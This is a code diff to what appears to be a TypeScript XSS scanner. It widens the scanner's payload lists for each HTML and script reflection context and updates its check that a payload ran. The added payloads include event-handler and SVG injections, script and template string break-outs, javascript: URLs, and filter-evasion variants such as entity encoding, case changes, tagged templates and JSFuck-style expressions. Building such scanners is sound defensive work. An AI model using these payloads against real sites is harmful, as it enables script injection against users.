@@ -108,28 +108,97 @@ export function reflectionContexts(html: string, canary: string): ReflectionCont
   });
 }
 
-/** Payloads for one context; `t` is a random tag name, `m` a random function name. */
-export function payloadsFor(ctx: ReflectionContext, t: string, m: string): string[] {
-  const el = `<${t} onmouseover=${m}(1)>`;
+/** One payload and the family it belongs to (named in the finding when a filter made it the one). */
+export interface XssPayload {
+  payload: string;
+  family: string;
+}
+
+/** The markers a payload carries: `t` a random tag name, `m` a random function name, `n` random digits. */
+export interface XssMarkers {
+  t: string;
+  m: string;
+  n: string;
+}
+
+/** What proves our code ran: a call of `m` with or without parentheses, or the letter-free `[n][+[]]`. */
+export function calls(k: XssMarkers): string[] {
+  return [`${k.m}(1)`, `${k.m}\`1\``, `[${k.n}][+[]]`];
+}
+
+const HANDLERS = (m: string): [string, string][] => [
+  [`onmouseover=${m}(1)`, 'event handler'],
+  [`onmouseover=${m}\`1\``, 'no-parentheses (tagged template)'],
+  [`onmouseover=${m}&#40;1&#41;`, 'entity-encoded parentheses'],
+  [`OnMouseOver=${m}(1)`, 'case variant'],
+];
+
+function markup(k: XssMarkers): XssPayload[] {
+  const T = k.t.toUpperCase();
+  return [
+    ...HANDLERS(k.m).map(([h, family]) => ({ payload: `<${h.startsWith('On') ? T : k.t} ${h}>`, family })),
+    { payload: `<svg onload=${k.m}(1)>`, family: 'SVG' },
+    { payload: `<${k.t}/onmouseover=${k.m}(1)>`, family: 'no-space' },
+  ];
+}
+
+function scriptString(q: string, k: XssMarkers): XssPayload[] {
+  return [
+    { payload: `${q}-${k.m}(1)-${q}`, family: 'script string break-out' },
+    { payload: `${q}-${k.m}\`1\`-${q}`, family: 'no-parentheses (tagged template)' },
+    { payload: `${q}-[${k.n}][+[]]-${q}`, family: 'no-letters (JSFuck-style)' },
+    ...markup(k).slice(0, 2).map((p) => ({ payload: `</script>${p.payload}`, family: `</script> then ${p.family}` })),
+  ];
+}
+
+/** Payloads for one context, most common first; the check skips those the input filter stops. */
+export function payloadsFor(ctx: ReflectionContext, k: XssMarkers): XssPayload[] {
+  const { m, n } = k;
   switch (ctx.kind) {
     case 'text':
-      return [el];
+      return markup(k);
     case 'rcdata':
-      return [`</${ctx.tag}>${el}`];
+      return markup(k).map((p) => ({ payload: `</${ctx.tag}>${p.payload}`, family: p.family }));
     case 'comment':
-      return [`-->${el}`];
+      return markup(k).map((p) => ({ payload: `-->${p.payload}`, family: p.family }));
     case 'script':
-      if (ctx.state === 'sq') return [`'-${m}(1)-'`, `</script>${el}`];
-      if (ctx.state === 'dq') return [`"-${m}(1)-"`, `</script>${el}`];
-      if (ctx.state === 'tpl') return ['`-' + m + '(1)-`', '${' + m + '(1)}'];
-      if (ctx.state === 'code') return [`;${m}(1);//`];
-      return [`\n${m}(1);//`, `</script>${el}`];
+      if (ctx.state === 'sq') return scriptString("'", k);
+      if (ctx.state === 'dq') return scriptString('"', k);
+      if (ctx.state === 'tpl')
+        return [
+          { payload: '`-' + m + '(1)-`', family: 'template break-out' },
+          { payload: '${' + m + '(1)}', family: 'template substitution' },
+          { payload: '${[' + n + '][+[]]}', family: 'no-letters (JSFuck-style)' },
+        ];
+      if (ctx.state === 'code')
+        return [
+          { payload: `;${m}(1);//`, family: 'script code' },
+          { payload: `;${m}\`1\`;//`, family: 'no-parentheses (tagged template)' },
+          { payload: `;[${n}][+[]];//`, family: 'no-letters (JSFuck-style)' },
+        ];
+      return [
+        { payload: `\n${m}(1);//`, family: 'comment break-out' },
+        { payload: `\n[${n}][+[]];//`, family: 'no-letters (JSFuck-style)' },
+        ...markup(k).slice(0, 1).map((p) => ({ payload: `</script>${p.payload}`, family: `</script> then ${p.family}` })),
+      ];
     case 'attr': {
-      const out: string[] = [];
-      if (ctx.urlStart) out.push(`javascript:${m}(1)`);
+      const out: XssPayload[] = [];
+      if (ctx.urlStart)
+        out.push(
+          { payload: `javascript:${m}(1)`, family: 'javascript: URL' },
+          { payload: `JavaScript:${m}(1)`, family: 'case variant' },
+          { payload: `&#106;avascript:${m}(1)`, family: 'entity-encoded javascript:' },
+          { payload: `javascript:${m}\`1\``, family: 'no-parentheses (tagged template)' },
+        );
       // a leading value: after "class=" the parser skips spaces, so the handler must follow one
-      if (ctx.quote === null) out.push(`x onmouseover=${m}(1)`);
-      else out.push(`${ctx.quote} onmouseover=${m}(1) x=${ctx.quote}`, `${ctx.quote}>${el}`);
+      if (ctx.quote === null) out.push(...HANDLERS(m).map(([h, family]) => ({ payload: `x ${h}`, family })));
+      else {
+        const q = ctx.quote;
+        out.push({ payload: `${q} onmouseover=${m}(1) x=${q}`, family: 'event handler' });
+        out.push({ payload: `${q}>${markup(k)[0]!.payload}`, family: 'tag break-out' });
+        out.push(...HANDLERS(m).slice(1).map(([h, family]) => ({ payload: `${q} ${h} x=${q}`, family })));
+        out.push({ payload: `${q}/onmouseover=${m}(1)/x=${q}`, family: 'no-space' });
+      }
       return out;
     }
   }
@@ -145,9 +214,10 @@ export interface Formed {
  * name, an event-handler attribute calling our function, a javascript: URL calling it, or our call
  * in a script outside any string or comment.
  */
-export function confirmFormed(html: string, t: string, m: string): Formed | null {
+export function confirmFormed(html: string, k: XssMarkers): Formed | null {
   let found: Formed | null = null;
-  const call = `${m}(1)`;
+  const t = k.t;
+  const forms = calls(k);
   const stack: string[] = [];
   let scriptText = '';
   const parser = new Parser(
@@ -157,17 +227,17 @@ export function confirmFormed(html: string, t: string, m: string): Formed | null
         if (name === 'script') scriptText = '';
         if (found) return;
         if (name === t) {
-          const handler = Object.entries(attribs).find(([k, v]) => k.startsWith('on') && v.includes(call));
+          const handler = Object.entries(attribs).find(([a, v]) => a.startsWith('on') && forms.some((c) => v.includes(c)));
           found = { what: `<${t}${handler ? ` ${handler[0]}=${handler[1]}` : ''}> element formed in the page` };
           return;
         }
-        for (const [k, v] of Object.entries(attribs)) {
-          if (k.startsWith('on') && jsCodeCalls(v, call)) {
-            found = { what: `<${name} ${k}="${v}"> event handler formed in the page` };
+        for (const [a, v] of Object.entries(attribs)) {
+          if (a.startsWith('on') && forms.some((c) => jsCodeCalls(v, c))) {
+            found = { what: `<${name} ${a}="${v}"> event handler formed in the page` };
             return;
           }
-          if (URL_ATTRS.has(k) && /^\s*javascript:/i.test(v) && jsCodeCalls(v.replace(/^\s*javascript:/i, ''), call)) {
-            found = { what: `<${name} ${k}="${v}"> javascript: URL formed in the page` };
+          if (URL_ATTRS.has(a) && /^\s*javascript:/i.test(v) && forms.some((c) => jsCodeCalls(v.replace(/^\s*javascript:/i, ''), c))) {
+            found = { what: `<${name} ${a}="${v}"> javascript: URL formed in the page` };
             return;
           }
         }
@@ -176,7 +246,8 @@ export function confirmFormed(html: string, t: string, m: string): Formed | null
         if (stack[stack.length - 1] === 'script') scriptText += text;
       },
       onclosetag: (name) => {
-        if (name === 'script' && !found && jsCodeCalls(scriptText, call)) {
+        const call = name === 'script' && !found ? forms.find((c) => jsCodeCalls(scriptText, c)) : undefined;
+        if (call !== undefined) {
           const at = scriptText.indexOf(call);
           found = { what: `${scriptText.slice(Math.max(0, at - 40), at + call.length + 20).trim()}\n${call} runs as code in a <script> block (outside any string or comment)` };
         }
